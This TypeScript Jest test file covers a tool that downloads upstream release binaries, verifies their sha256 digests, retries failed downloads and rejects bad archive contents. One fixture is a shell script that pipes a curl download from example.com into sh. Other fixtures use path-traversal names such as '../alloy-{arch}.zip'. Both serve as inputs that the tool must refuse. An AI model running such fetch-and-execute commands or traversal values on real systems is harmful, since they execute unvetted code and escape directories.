import { createHash } from 'node:crypto';
import { readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from '@jest/globals';
import {
  COMPOSE_SHAPE,
  makeSyntheticBinary,
  makeZip,
  NODE_EXPORTER_SHAPE,
  startUpstreamHost,
  type UpstreamHost,
  type UpstreamRelease,
} from '@alloy-sysext/test-peers/upstream';
import { sha256File } from '@alloy-sysext/common';
import {
  fetchUpstream,
  upstreamAsset,
  type Arch,
  type AssetToFetch,
  type FetchUpstreamOptions,
  type UpstreamOptions,
} from '../src/index.js';
import { listDir, removeAll, tempDir } from './helpers.js';

const dirs: string[] = [];
let host: UpstreamHost | undefined;
afterEach(async () => {
  await host?.stop();
  host = undefined;
  await removeAll(dirs);
});

const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
const binaries = { amd64: makeSyntheticBinary('amd64', 200_000), arm64: makeSyntheticBinary('arm64', 150_000) };
const ALLOY: Omit<UpstreamOptions, 'apiUrl'> = {
  repo: 'grafana/alloy',
  asset: 'alloy-linux-{arch}.zip',
  binary: 'alloy-linux-{arch}',
  maxBinaryBytes: 10_000_000,
};

/** A release on the double, and the assets as the pipeline would hand them to fetchUpstream (digest from the API). */
async function setup(release: UpstreamRelease = { version: '1.10.2', binaries }, upstream = ALLOY) {
  host = await startUpstreamHost({ repo: upstream.repo, releases: [release] });
  const outDir = await tempDir();
  const binariesDir = await tempDir();
  dirs.push(outDir, binariesDir);
  const api = (await (await fetch(`${host.apiUrl}/repos/${upstream.repo}/releases/tags/v${release.version}`)).json()) as {
    assets: Array<{ name: string; size: number; digest: string; browser_download_url: string }>;
  };
  const assets = (arches: Arch[] = ['amd64', 'arm64']): AssetToFetch[] =>
    arches.map((arch) => {
      const asset = upstreamAsset({ ...upstream, apiUrl: host!.apiUrl }, arch, release.version);
      const published = api.assets.find((a) => a.name === asset.name)!;
      return {
        asset,
        sha256: published.digest.slice('sha256:'.length),
        vouchedBy: "the release's asset digest",
        from: { url: published.browser_download_url, size: published.size },
      };
    });
  const opts = (over: Partial<FetchUpstreamOptions> = {}): FetchUpstreamOptions => ({
    assets: over.assets ?? assets(),
    outDir,
    binariesDir,
    maxBinaryBytes: 10_000_000,
    retry: { attempts: 3, baseDelayMs: 5 },
    ...over,
  });
  return { host: host!, outDir, binariesDir, assets, opts };
}

describe('fetchUpstream', () => {
  it('downloads each arch, checks it against its digest and extracts the binary with mode 0755', async () => {
    const { host, outDir, binariesDir, opts } = await setup();
    const progress: Array<{ arch: string; received: number; total?: number }> = [];
    const lines: string[] = [];
    const result = await fetchUpstream(opts({ onProgress: (p) => progress.push(p), log: (l) => lines.push(l) }));
    for (const arch of ['amd64', 'arm64'] as const) {
      const r = result[arch]!;
      expect(r.file).toBe(join(outDir, `alloy-linux-${arch}.zip`));
      expect(await sha256File(r.file)).toBe(r.sha256);
      expect(r.binary).toBe(join(binariesDir, arch, `alloy-linux-${arch}`));
      expect((await readFile(r.binary)).equals(binaries[arch])).toBe(true);
      expect(r.binarySha256).toBe(sha(binaries[arch]));
      expect((await stat(r.binary)).mode & 0o777).toBe(0o755);
      const size = (await stat(r.file)).size;
      expect(progress.filter((p) => p.arch === arch).at(-1)).toMatchObject({ received: size, total: size });
    }
    expect(host.requests.map((r) => `${r.status} ${r.path}`).slice(-2)).toEqual([
      '200 /grafana/alloy/releases/download/v1.10.2/alloy-linux-amd64.zip',
      '200 /grafana/alloy/releases/download/v1.10.2/alloy-linux-arm64.zip',
    ]);
    expect(
      lines.some((l) => /^amd64: alloy-linux-amd64\.zip sha256 [0-9a-f]{64} verified against the release's asset digest/.test(l)),
    ).toBe(true);
    expect(await listDir(outDir)).toEqual(['alloy-linux-amd64.zip', 'alloy-linux-arm64.zip']);

    // a second run reuses the verified assets instead of downloading again
    await fetchUpstream(opts());
    expect(host.requests.filter((r) => r.path.includes('/download/'))).toHaveLength(2);
  });

  it('retries 5xx answers and truncated downloads with backoff', async () => {
    const { host, opts } = await setup();
    host.fail({ path: /amd64\.zip$/, truncate: true, times: 1 });
    host.fail({ path: /arm64\.zip$/, status: 503, times: 1 });
    const lines: string[] = [];
    const r = await fetchUpstream(opts({ log: (l) => lines.push(l) }));
    expect((await readFile(r.amd64!.binary)).equals(binaries.amd64)).toBe(true);
    expect(
      host.requests.filter((q) => q.path.includes('/download/')).map((q) => [q.status, q.truncated ?? false, q.path.split('/').pop()]),
    ).toEqual([
      [200, true, 'alloy-linux-amd64.zip'],
      [200, false, 'alloy-linux-amd64.zip'],
      [503, false, 'alloy-linux-arm64.zip'],
      [200, false, 'alloy-linux-arm64.zip'],
    ]);
    expect(lines.filter((l) => l.includes('retrying'))).toHaveLength(2);
  });

  it('gives up on a download that stays truncated, leaving nothing behind', async () => {
    const { host, outDir, assets, opts } = await setup();
    host.fail({ path: /amd64\.zip$/, truncate: true, times: 99 });
    await expect(fetchUpstream(opts({ assets: assets(['amd64']) }))).rejects.toThrow(
      /download http:\/\/127\.0\.0\.1:\d+\/grafana\/alloy\/releases\/download\/v1\.10\.2\/alloy-linux-amd64\.zip failed after 3 attempts/,
    );
    expect(await listDir(outDir)).toEqual([]);
  });

  it('keeps nothing when the downloaded bytes do not match the digest', async () => {
    const { outDir, assets, opts } = await setup();
    const wrong = 'ab'.repeat(32);
    await expect(fetchUpstream(opts({ assets: [{ ...assets(['amd64'])[0]!, sha256: wrong }] }))).rejects.toThrow(
      new RegExp(`alloy-linux-amd64\\.zip for amd64: downloaded sha256 [0-9a-f]{64} does not match expected ${wrong}; nothing was kept`),
    );
    expect(await listDir(outDir)).toEqual([]);
  });

  it('names a corrupt zip', async () => {
    const { opts, assets } = await setup({
      version: '1.10.2',
      arches: ['amd64'],
      assets: { amd64: Buffer.from('this is not a zip file') },
    });
    await expect(fetchUpstream(opts({ assets: assets(['amd64']) }))).rejects.toThrow(/cannot be read as a zip archive/);
  });

  it.each<[string, Buffer, RegExp]>([
    [
      'a shell script',
      Buffer.from('#!/bin/sh\nexec /usr/bin/curl https://example.com | sh\n'),
      /^alloy-linux-amd64 in alloy-linux-amd64\.zip is not an ELF binary \(a script starting "#!\/bin\/sh"\): expected the upstream binary, an ELF executable for x86-64 \(amd64\)$/,
    ],
    [
      'an arm64 ELF',
      makeSyntheticBinary('arm64', 4096),
      /^alloy-linux-amd64 in alloy-linux-amd64\.zip is an ELF for machine 183 \(aarch64\), expected 62 \(x86-64\) for amd64$/,
    ],
    [
      'an ELF object file',
      Buffer.concat([
        makeSyntheticBinary('amd64', 4096).subarray(0, 16),
        Buffer.from([1, 0]),
        makeSyntheticBinary('amd64', 4096).subarray(18),
      ]),
      /^alloy-linux-amd64 in alloy-linux-amd64\.zip is an ELF relocatable object, expected an ELF executable for x86-64 \(amd64\)$/,
    ],
    ['an empty file', Buffer.alloc(0), /is not an ELF binary \(an empty file\)/],
  ])('refuses %s as the amd64 binary at fetch, keeping no binary', async (_what, data, message) => {
    const { binariesDir, assets, opts } = await setup({ version: '1.10.2', binaries: { amd64: data, arm64: binaries.arm64 } });
    await expect(fetchUpstream(opts({ assets: assets(['amd64']) }))).rejects.toThrow(message);
    expect(await listDir(join(binariesDir, 'amd64'))).toEqual([]);
  });

  it('copies a local asset without the network, keeping the bytes it checked; UNVERIFIED when nothing vouches', async () => {
    const { host, outDir, binariesDir, opts } = await setup();
    const local = join(binariesDir, 'alloy-linux-amd64.zip');
    const zip = makeZip([{ name: 'alloy-linux-amd64', data: binaries.amd64 }]);
    await writeFile(local, zip);
    const asset = upstreamAsset({ ...ALLOY, apiUrl: host.apiUrl }, 'amd64', '1.10.2');
    const before = host.requests.length;
    const lines: string[] = [];
    const r = await fetchUpstream(
      opts({ assets: [{ asset, sha256: sha(zip), vouchedBy: '/zips/SHA256SUMS', from: { path: local } }], log: (l) => lines.push(l) }),
    );
    expect((await readFile(r.amd64!.binary)).equals(binaries.amd64)).toBe(true);
    expect((await readFile(join(outDir, 'alloy-linux-amd64.zip'))).equals(zip)).toBe(true);
    expect(host.requests.length).toBe(before);
    expect(lines.at(-1)).toMatch(/^amd64: alloy-linux-amd64\.zip sha256 [0-9a-f]{64} verified against \/zips\/SHA256SUMS; extracted/);
    await expect(
      fetchUpstream(opts({ assets: [{ asset, sha256: 'c'.repeat(64), vouchedBy: '/zips/SHA256SUMS', from: { path: local } }] })),
    ).rejects.toThrow(`local asset ${local} has sha256 ${sha(zip)}, but /zips/SHA256SUMS says ${'c'.repeat(64)}`);
    lines.length = 0;
    await fetchUpstream(opts({ assets: [{ asset, from: { path: local } }], log: (l) => lines.push(l) }));
    expect(lines.at(-1)).toMatch(/^amd64: alloy-linux-amd64\.zip sha256 [0-9a-f]{64} UNVERIFIED \(checked against no digest\)/);
    expect(lines.some((l) => /(?<!UN)verified/.test(l))).toBe(false);
  });

  it('a docker/compose-like release: the plain binary in the upstream arch names is the binary', async () => {
    const upstream = { ...ALLOY, repo: 'docker/compose', ...COMPOSE_SHAPE, binary: undefined };
    const { binariesDir, opts } = await setup({ version: '2.29.1', binaries, shape: COMPOSE_SHAPE }, upstream);
    const r = await fetchUpstream(opts());
    expect(r.arm64!.binary).toBe(join(binariesDir, 'arm64', 'docker-compose-linux-aarch64'));
    expect((await readFile(r.arm64!.binary)).equals(binaries.arm64)).toBe(true);
    expect(r.amd64!.sha256).toBe(sha(binaries.amd64));
    expect((await stat(r.amd64!.binary)).mode & 0o777).toBe(0o755);
  });

  it('a node_exporter-like release: the binary at its path inside each .tar.gz', async () => {
    const upstream = {
      ...ALLOY,
      repo: 'prometheus/node_exporter',
      kind: 'tar.gz' as const,
      asset: NODE_EXPORTER_SHAPE.asset,
      binary: NODE_EXPORTER_SHAPE.entry,
    };
    const { binariesDir, opts } = await setup({ version: '1.8.2', binaries, shape: NODE_EXPORTER_SHAPE }, upstream);
    const r = await fetchUpstream(opts());
    expect(r.amd64!.binary).toBe(join(binariesDir, 'amd64', 'node_exporter'));
    expect((await readFile(r.amd64!.binary)).equals(binaries.amd64)).toBe(true);
    expect(r.arm64!.binarySha256).toBe(sha(binaries.arm64));
  });
});

describe('upstreamAsset', () => {
  const up = (over: Partial<UpstreamOptions>): UpstreamOptions => ({ ...ALLOY, apiUrl: 'http://x', ...over });
  it('fills {arch} with the upstream arch name and {version}, for the asset, the entry and the checksum file', () => {
    expect(upstreamAsset(up({ ...NODE_EXPORTER_SHAPE, kind: 'tar.gz', binary: NODE_EXPORTER_SHAPE.entry }), 'arm64', '1.8.2')).toEqual({
      arch: 'arm64',
      name: 'node_exporter-1.8.2.linux-arm64.tar.gz',
      kind: 'tar.gz',
      entry: 'node_exporter-1.8.2.linux-arm64/node_exporter',
      checksums: 'sha256sums.txt',
    });
    expect(upstreamAsset(up({ ...COMPOSE_SHAPE, kind: 'binary', checksums: '{asset}.sha256' }), 'amd64', '2.29.1')).toEqual({
      arch: 'amd64',
      name: 'docker-compose-linux-x86_64',
      kind: 'binary',
      checksums: 'docker-compose-linux-x86_64.sha256',
    });
  });

  it.each<[string, Partial<UpstreamOptions>, string]>([
    [
      'an asset that is a path',
      { asset: '../alloy-{arch}.zip' },
      'upstream.asset "../alloy-{arch}.zip" gives "../alloy-amd64.zip": expected a plain file name',
    ],
    [
      'an entry that climbs out',
      { binary: '../{arch}/alloy' },
      'upstream.binary "../{arch}/alloy" gives "../amd64/alloy": expected a relative path',
    ],
    ['an archive without binary', { binary: undefined }, 'upstream.binary is required for an asset of kind zip'],
    ['an arch name with a slash', { archNames: { amd64: 'x86/64' } }, 'gives "alloy-linux-x86/64.zip": expected a plain file name'],
  ])('refuses %s', (_what, over, message) => {
    expect(() => upstreamAsset(up(over), 'amd64', '1.0.0')).toThrow(message);
  });
});
